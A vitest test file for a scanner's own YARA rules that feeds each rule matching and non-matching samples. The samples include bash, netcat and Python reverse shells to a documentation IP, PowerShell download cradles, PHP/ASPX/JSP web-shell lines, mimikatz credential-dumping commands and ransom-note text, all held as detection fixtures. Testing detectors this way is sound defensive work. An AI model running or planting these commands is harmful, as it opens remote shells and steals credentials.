import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { createScanner, ownYaraRules } from './index.ts';

const scanner = createScanner({ folders: [ownYaraRules], threads: 1, maxHeldBytes: 2 ** 20 });
afterAll(() => scanner.close());
const { signal } = new AbortController();

/** In two parts, so that this file is not taken for what it tests. */
const eicar = `X5O!P%@AP[4\\PZX54(P^)7CC)7}$${'EICAR-STANDARD-'}ANTIVIRUS-TEST-FILE!$H+H*`;
const wide = (text: string) => Buffer.from(text, 'utf16le');
const base64 = (script: string) => wide(script).toString('base64');

/** A program's headers: `MZ`, the place of `PE`, two sections of these names, and then some text. */
function program(first: string, second: string, text: string): Buffer {
  const bytes = Buffer.alloc(2_048);
  bytes.write('MZ', 0);
  bytes.writeUInt32LE(0x80, 0x3c);
  bytes.write('PE\0\0', 0x80);
  bytes.write(first, 0x180);
  bytes.write(second, 0x1a8);
  bytes.write(text, 0x3e0);
  return bytes;
}

const shortcut = (text: string) =>
  Buffer.concat([Buffer.from('4c0000000114020000000000c000000000000046', 'hex'), wide(text)]);

interface Case {
  readonly matching: readonly (string | Buffer)[];
  readonly other: readonly (string | Buffer)[];
}

const cases: Readonly<Record<string, Case>> = {
  EICAR_Test_File: { matching: [eicar, `${eicar}\r\n`], other: [` ${eicar}`, eicar.slice(0, 30), ''] },
  UPX_Packed_PE: {
    matching: [program('UPX0', 'UPX1', 'UPX!')],
    other: [program('.text', '.data', 'UPX!'), program('UPX0', 'UPX1', ''), 'UPX0 UPX1 UPX!'],
  },
  PowerShell_Download_Cradle: {
    matching: [
      "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')",
      wide('iwr https://example.org/x.ps1 -UseBasicParsing | iex'),
      'powershell -c "Invoke-Expression (irm example.org/i)"',
    ],
    other: [
      'Invoke-WebRequest https://example.org -OutFile page.html',
      'complex downloads of strings',
      'iex',
    ],
  },
  PowerShell_Encoded_Command: {
    matching: [
      `powershell.exe -nop -w hidden -enc ${base64('$client = New-Object Net.Sockets')}`,
      wide(`PowerShell -EncodedCommand ${base64('IEX (irm example.org)')}`),
    ],
    other: [
      'powershell -enc',
      `powershell -File a.ps1 -e ${base64('plain')}`,
      `echo ${base64('$a = 1 + 2 + 3')}`,
    ],
  },
  PHP_Request_Eval: {
    matching: [
      "<?php @eval($_POST['x']);",
      '<?php system ( base64_decode(stripslashes($_REQUEST["c"])) ); ?>',
      '<?= shell_exec($_GET[0]) ?>',
    ],
    other: ['<?php echo htmlspecialchars($_GET["q"]);', 'eval($_POST["x"])', '<?php evaluate($_POST);'],
  },
  ASPX_Request_Eval: {
    matching: [
      '<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%>',
      '<%@ Page Language="C#" %><% p.StartInfo.Arguments = "/c " + Request["cmd"]; %>',
    ],
    other: ['<%@ Page Language="C#" %><%= Request.Path %>', 'eval(Request.Item["x"])'],
  },
  JSP_Request_Exec: {
    matching: ['<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>'],
    other: ['<% request.getParameter("q") %>', '<% Runtime.getRuntime().exec("ls"); %>'],
  },
  Credential_Dumping_Commands: {
    matching: [
      'privilege::debug\nsekurlsa::logonpasswords\nlsadump::sam',
      wide('Privilege::Debug token::elevate LSADUMP::secrets'),
    ],
    other: ['sekurlsa::logonpasswords sekurlsa::tickets', 'privilege debug, lsadump, sekurlsa'],
  },
  Unix_Reverse_Shell: {
    matching: [
      'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1',
      'nc -e /bin/sh 192.0.2.7 4444',
      'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.7 4444 > /tmp/f',
      'python3 -c \'import socket,os,pty;s=socket.socket();s.connect((h,1));os.dup2(s.fileno(),0);pty.spawn("sh")\'',
    ],
    other: ['bash -i', 'nc -z 192.0.2.7 22', 'exec 3<>/dev/tcp/192.0.2.7/80', 'import socket, subprocess'],
  },
  Ransom_Note: {
    matching: [
      'All your files have been encrypted! To decrypt your files send 0.1 bitcoin.',
      wide('Your network was locked. Install Tor Browser to recover your data.'),
    ],
    other: [
      'Your files are encrypted at rest. Restore them by the tool.',
      'Pay in bitcoin; we recover data.',
    ],
  },
  Shortcut_Starts_Script_Host: {
    matching: [shortcut('powershell.exe -w hidden -c x'), shortcut('mshta https://example.org/a.hta')],
    other: [
      shortcut('notepad.exe https://example.org'),
      shortcut('powershell.exe -File a.ps1'),
      'powershell -w 1 http://x',
    ],
  },
};

async function rulesOn(text: string | Buffer): Promise<readonly string[]> {
  const { matches } = await scanner.scan(Uint8Array.from(Buffer.from(text)), signal);
  return matches.map(({ rule }) => rule);
}

describe("Tyrian's own YARA rules", () => {
  it('are all sound, and all tested here', async () => {
    expect((await scanner.rules(signal)).diagnostics).toEqual([]);
    const { folder } = ownYaraRules;
    const texts = readdirSync(folder).map((name) => readFileSync(join(folder, name), 'utf8'));
    const names = texts.flatMap((text) => [...text.matchAll(/^rule (\w+)/gm)].map(([, name = '']) => name));
    expect(new Set(names)).toEqual(new Set(Object.keys(cases)));
    for (const text of texts)
      for (const key of ['description', 'author', 'reference', 'severity'])
        expect(text.match(new RegExp(`^        ${key} = "`, 'gm'))).toHaveLength(
          text.match(/^rule /gm)?.length ?? 0,
        );
  });

  it.each(Object.entries(cases))(
    '%s meets what it is about, and not what only looks like it',
    async (name, one) => {
      for (const text of one.matching) expect(await rulesOn(text), String(text)).toContain(name);
      for (const text of one.other) expect(await rulesOn(text), String(text)).not.toContain(name);
    },
  );

  it('meet nothing of the rule files themselves, nor of this test as a text of mail', async () => {
    const { folder } = ownYaraRules;
    for (const name of readdirSync(folder))
      expect(await rulesOn(readFileSync(join(folder, name)))).not.toContain('EICAR_Test_File');
  });
});
